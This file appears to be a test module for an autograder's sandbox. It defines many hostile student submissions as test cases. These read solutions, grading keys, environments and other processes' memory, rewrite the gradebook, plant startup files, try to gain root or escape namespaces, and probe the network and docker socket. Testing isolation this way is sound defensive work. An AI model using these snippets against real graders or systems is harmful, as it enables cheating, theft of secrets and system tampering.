"""Submissions that look for what is not theirs, smuggle out what they find, and change what they reach."""

from killing import CAREFUL
from submission import PROOF, Case, in_cell

# what gets through a wall says so by a wrong answer, and costs its author points that were expected
BREACHED = CAREFUL + """
def breached(what):
    global diagnosis
    def diagnosis():
        raise RuntimeError("there is no wall: " + what)

"""

MESSAGE = "MARKER-MESSAGE-0badcafe"  # what one submission leaves for the next; put together at run time
HIDDEN = "MARKER-HIDDEN-0badcafe"  # found a hidden check in memory

BEFORE = """
import os, re, sys, time
found = set()

def look(text):
    text = text if isinstance(text, bytes) else str(text).encode("utf-8", "replace")
    found.update(re.findall(rb"MARKER-[A-Z]+-[0-9a-f]{8,}", text))

def read(path):
    try:
        with open(path, "rb") as file:
            look(file.read(5 * 10**6))
    except OSError:
        pass

try:
"""

AFTER = f"""
except Exception as error:
    print(error)
loot = b" ".join(sorted(found)).decode()
print("loot:", loot)
print("loot:", loot, file=sys.stderr)
for place in (".", "/tmp", "/var/tmp", "/dev/shm", "/lab", COURSE_ROOT, COURSE_ROOT + "/results/lab02"):
    try:
        with open(place + "/{PROOF}.txt", "w") as file:
            file.write(loot)
    except OSError:
        pass

def diagnosis():
    raise ValueError("loot: " + loot)

def repaired_loss(x, W, b, c):
    return {{loot: [loot, loot.encode()]}}

from IPython.display import HTML, display
display(HTML(loot))
raise RuntimeError(loot)
"""


def theft(name: str, body: str) -> Case:
    """Looks for markers, and hands out what it found in every way there is: by two functions, prints, files, errors."""
    source = BEFORE + "    " + body.strip("\n").replace("\n", "\n    ") + AFTER
    return in_cell(name, "theft", source, earned={"diagnosis": 0, "repair": 0}, lost={"diagnosis": "raised"},
                   leaks_nothing=(MESSAGE, HIDDEN))  # fmt: skip


def _files(pattern: str) -> str:
    return f"""
import glob
for root in (COURSE_ROOT, "/lab", "..", "../..", os.path.dirname(os.path.dirname(sys.prefix)), "/work", "/home"):
    for path in glob.glob(root + "/{pattern}", recursive=True):
        read(path)
"""


THEFT = [
    theft("reads-the-solutions", _files("solutions/**/*") + "\nread(COURSE_ROOT + '/solutions/lab02/checks.py')"),
    theft("reads-the-gradebook", _files("gradebook.db*")),
    theft("reads-the-key", _files(".grading-key*")),
    theft("reads-the-results", _files("results/**/*")),
    theft("reads-other-submissions", _files("submitted/**/*") + _files("autograded/**/*") + _files("feedback/**/*")),
    theft("imports-the-solutions", """
sys.path[:0] = [COURSE_ROOT + "/solutions/lab02", COURSE_ROOT]
import importlib
for name in ("checks", "solutions.lab02.checks"):
    try:
        module = importlib.import_module(name)
        look(open(module.__file__).read())
        if hasattr(module, "pca_elsewhere"):
            found.add(b"-".join([b"MARKER", b"HIDDEN", b"0badcafe"]))
    except Exception as error:
        print(error)
"""),
    theft("searches-the-disk", r"""
end = time.monotonic() + 1.2
for folder, inner, files in os.walk("/", followlinks=False):
    inner[:] = [i for i in inner if i not in ("proc", "sys", "usr", "site-packages", "lib", "lib64")]
    for file in files:
        if re.search(r"check|grad|solution|key|\.ipynb|\.json|\.toml|\.html|\.db", file):
            read(os.path.join(folder, file))
    if time.monotonic() > end:
        break
"""),
    theft("asks-the-shell", """
import subprocess
for command in ("cat COURSE/solutions/lab02/checks.py", "env", "ps aux", "cat /proc/*/environ", "cat /proc/*/cmdline",
                "find / -xdev -name '.grading-key' -exec cat {} +", "tail -n +1 COURSE/results/lab02/*"):
    done = subprocess.run(command.replace("COURSE", COURSE_ROOT), shell=True, capture_output=True, timeout=1)
    look(done.stdout + done.stderr)
"""),
    theft("asks-ipython", """
shell = get_ipython()
for line in ("cat " + COURSE_ROOT + "/gradebook.db", "env", "run " + COURSE_ROOT + "/solutions/lab02/checks.py"):
    name, _, rest = line.partition(" ")
    look(shell.run_line_magic(name, rest))
"""),
    theft("reads-the-environment", """
look(dict(os.environ))
look(os.environb if hasattr(os, "environb") else b"")
for process in ("self", "1", str(os.getppid()), "thread-self"):
    read(f"/proc/{process}/environ")
    read(f"/proc/{process}/cmdline")
import ctypes
block = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
for i in range(500):
    if not block or block[i] is None:
        break
    look(block[i])
"""),
    theft("reads-the-first-environment", """
import ctypes
libc = ctypes.CDLL(None)
libc.getauxval.restype = ctypes.c_ulong
top = libc.getauxval(31)  # the file's name, above the environment that the process was started with
look(ctypes.string_at(top - 16384, 16384))
"""),
    theft("reads-other-processes", """
for process in [1, os.getppid(), *range(1, 60)]:
    for what in ("environ", "cmdline", "maps", "status", "mem", "root/gradebook.db", "cwd/gradebook.db"):
        read(f"/proc/{process}/{what}")
    try:
        for handle in os.listdir(f"/proc/{process}/fd"):
            look(os.readlink(f"/proc/{process}/fd/{handle}"))
            read(f"/proc/{process}/fd/{handle}")
    except OSError:
        pass
"""),
    theft("traces-its-parent", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(1 << 16)

class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

for parent in (os.getppid(), 1, 2, 3):
    libc.ptrace(16, parent, 0, 0)  # attach
    for base in (id(os), id(found), 0x400000, 0x555555554000):
        here, there = Piece(ctypes.addressof(buffer), len(buffer)), Piece(base, len(buffer))
        if libc.process_vm_readv(parent, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            look(buffer.raw)
"""),
    theft("searches-the-heap", """
import gc
for thing in gc.get_objects():
    kind = type(thing)
    if kind is dict:
        parts = thing.values()
    elif kind in (list, tuple, set):
        parts = thing
    else:
        name = getattr(thing, "__name__", "")
        if type(name) is str and name in ("pca_elsewhere", "_judge_pca", "checks_of_lab02"):
            found.add(b"-".join([b"MARKER", b"HIDDEN", b"0badcafe"]))
        continue
    try:
        for part in parts:
            if type(part) in (str, bytes) and len(part) > 16:
                look(part)
    except RuntimeError:
        pass
"""),
    theft("looks-at-its-callers", """
import gc, inspect, traceback
frame = sys._getframe()
while frame is not None:
    look(repr(frame.f_locals)[:10**6])
    look(repr({k: v for k, v in frame.f_globals.items() if isinstance(v, (str, bytes, dict, list))})[:10**6])
    frame = frame.f_back
for module in list(sys.modules.values()):
    if "grading" in getattr(module, "__name__", "") or "checks" in getattr(module, "__name__", ""):
        look(repr(vars(module))[:10**6])
"""),
    theft("reads-open-descriptors", """
import stat
for handle in range(3, 512):
    try:
        kind = os.fstat(handle).st_mode
        if stat.S_ISREG(kind):
            look(os.pread(handle, 10**6, 0))
        elif stat.S_ISDIR(kind):
            for name in ("gradebook.db", ".grading-key", "solutions/lab02/checks.py"):
                look(os.read(os.open(name, os.O_RDONLY, dir_fd=handle), 10**6))
    except OSError:
        pass
"""),
    theft("leaves-a-message", """
text = "-".join(["MARKER", "MESSAGE", "0badcafe"])
for folder in (".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/dev/mqueue", "/lab", "/tmp/matplotlib", sys.prefix):
    try:
        open(folder + "/message", "w").write(text)
    except OSError:
        pass
import torch, IPython, builtins
torch.message = IPython.message = builtins.message = text
"""),
    theft("looks-for-a-message", """
for folder in (".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/dev/mqueue", "/lab", "/tmp/matplotlib", sys.prefix):
    read(folder + "/message")
import torch, IPython, builtins
for place in (torch, IPython, builtins):
    look(getattr(place, "message", ""))
"""),
]  # fmt: skip


def harm(name: str, source: str) -> Case:
    """Changes what it reaches, in a cell of its own; nothing is reached, and the answers count."""
    return in_cell(name, "harm", BREACHED + source.strip("\n"))


HARM = [
    harm("deletes-the-course", """
import shutil
for path in (COURSE_ROOT, "/lab", "/tmp/matplotlib"):
    shutil.rmtree(path, ignore_errors=True)
if os.path.exists(COURSE_ROOT + "/solutions"):
    breached("the course is seen")
"""),
    harm("rewrites-the-gradebook", """
import sqlite3
book = sqlite3.connect(COURSE_ROOT + "/gradebook.db")
book.execute("update grade set manual_score = 1000, auto_score = 1000")
book.execute("delete from submitted_assignment")
book.commit()
"""),
    harm("writes-its-own-result", f"""
import glob
for path in [*glob.glob(COURSE_ROOT + "/results/lab02/*.json"), COURSE_ROOT + "/results/lab02/{PROOF}.json"]:
    open(path, "w").write('{{"score": 1000}}')
"""),
    harm("replaces-other-submissions", """
import glob
for path in glob.glob(COURSE_ROOT + "/submitted/*/lab02/lab02.ipynb"):
    open(path, "w").write("{}")
"""),
    harm("changes-the-library", f"""
import sys, site, lecturelib, lecturelib.grading, torch
folders = [lecturelib.__path__[0], lecturelib.grading.__path__[0], torch.__path__[0], sys.prefix, "/usr/lib",
           os.path.dirname(os.__file__), *site.getsitepackages(), COURSE_ROOT, "/etc"]
for folder in folders:
    for name in ("{PROOF}.pth", "{PROOF}.py"):
        try:
            open(os.path.join(folder, name), "w").write("# hostile")
            breached(folder)
        except OSError:
            pass
for file in (lecturelib.__file__, torch.__file__, os.__file__):
    if os.access(file, os.W_OK):
        breached(file)
"""),
    harm("leaves-startup-files", f"""
home = os.path.expanduser("~")
for path in (".ipython/profile_default/startup/{PROOF}.py", ".config/{PROOF}", ".local/lib/python3/usercustomize.py",
             "usercustomize.py", "sitecustomize.py", "ipython_config.py", "matplotlibrc"):
    for base in (home, ".", "/tmp", "/root"):
        try:
            os.makedirs(os.path.dirname(os.path.join(base, path)), exist_ok=True)
            open(os.path.join(base, path), "w").write("import os; os._exit(0)")
        except OSError:
            pass
os.environ["PYTHONSTARTUP"] = os.environ["IPYTHONDIR"] = os.path.abspath("sitecustomize.py")
"""),
    harm("becomes-root", """
import ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for attempt in (
    lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0), lambda: os.setgroups([0]),
    lambda: os.chroot("."), lambda: os.chmod("/bin/sh", 0o4777), lambda: os.chown("/usr", os.getuid(), os.getgid()),
    lambda: os.mknod("disk", 0o60666, os.makedev(8, 0)), lambda: os.mknod("memory", 0o20666, os.makedev(1, 1)),
    lambda: subprocess.run(["sudo", "-n", "true"], capture_output=True, timeout=1),
):
    try:
        attempt()
    except Exception:
        continue
if os.getuid() == 0 or os.geteuid() == 0 or 0 in os.getresuid():
    breached("it is root")
"""),
    harm("leaves-its-name-spaces", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x10020000, 0x00020000, 0x20000000, 0x40000000):
    libc.unshare(flags)
for target in (b"/", b"/usr", b"/proc", b"/tmp", b"/dev", COURSE_ROOT.encode()):
    libc.mount(None, target, None, ctypes.c_ulong(32), None)  # remount, writable
    libc.umount2(target, 2)
libc.mount(b"proc", b"/proc", b"proc", ctypes.c_ulong(0), None)
libc.pivot_root(b".", b".")
if os.listdir("/proc") or os.access("/usr", os.W_OK):
    breached("mounts")
"""),
    harm("opens-devices", """
for path in ("/dev/mem", "/dev/kmem", "/dev/sda", "/dev/nvme0n1", "/dev/kmsg", "/dev/fuse", "/dev/tty", "/dev/console"):
    try:
        os.close(os.open(path, os.O_RDWR | os.O_NONBLOCK))
        breached(path)
    except OSError:
        pass
"""),
    harm("calls-the-kernel", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
for number in (101, 250, 272, 298, 308, 310, 319, 321, 323, 425, 428, 429, 430, 434, 435, 438, 442, 447):
    libc.syscall(number, buffer, 0, 0, 0, 0, 0)
if libc.unshare(0x10000000) == 0:
    breached("unshare")
"""),
]  # fmt: skip

PORT = 38417
DOORS = [
    in_cell("phones-home", "network", BREACHED + f"""
import socket, urllib.request
for address in (("127.0.0.1", {PORT}), ("192.0.2.1", 80), ("::1", {PORT}), ("localhost", {PORT})):
    try:
        socket.create_connection(address, timeout=0.2).sendall(b"{PROOF}")
        breached("the network")
    except OSError:
        pass
for url in ("http://127.0.0.1:{PORT}/{PROOF}", "http://example.invalid/{PROOF}", "file:///etc/passwd"):
    try:
        urllib.request.urlopen(url, timeout=0.2)
        breached(url)
    except OSError:
        pass
"""),
    in_cell("asks-for-names", "network", "import socket\nsocket.getaddrinfo('hostile.example.invalid', 80)"),
    in_cell("speaks-other-protocols", "network", BREACHED + f"""
import socket
for family in (socket.AF_UNIX, socket.AF_NETLINK, socket.AF_PACKET, socket.AF_VSOCK, socket.AF_INET):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        for address in ("\\0{PROOF}", "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket",
                        ("127.0.0.1", {PORT}), (2, {PORT}), (0, 0)):
            try:
                with socket.socket(family, kind) as one:
                    one.setblocking(False)
                    one.connect(address)
                    one.send(b"{PROOF}")
                    if isinstance(address, str):
                        breached(address)
            except (OSError, TypeError, OverflowError):
                pass
"""),
    in_cell("listens", "network", f"""
import socket
door = socket.create_server(("0.0.0.0", {PORT + 1}))
other = socket.socket(socket.AF_UNIX)
other.bind("\\0{PROOF}")
other.listen()
"""),
]  # fmt: skip

CASES = [*THEFT, *HARM, *DOORS]
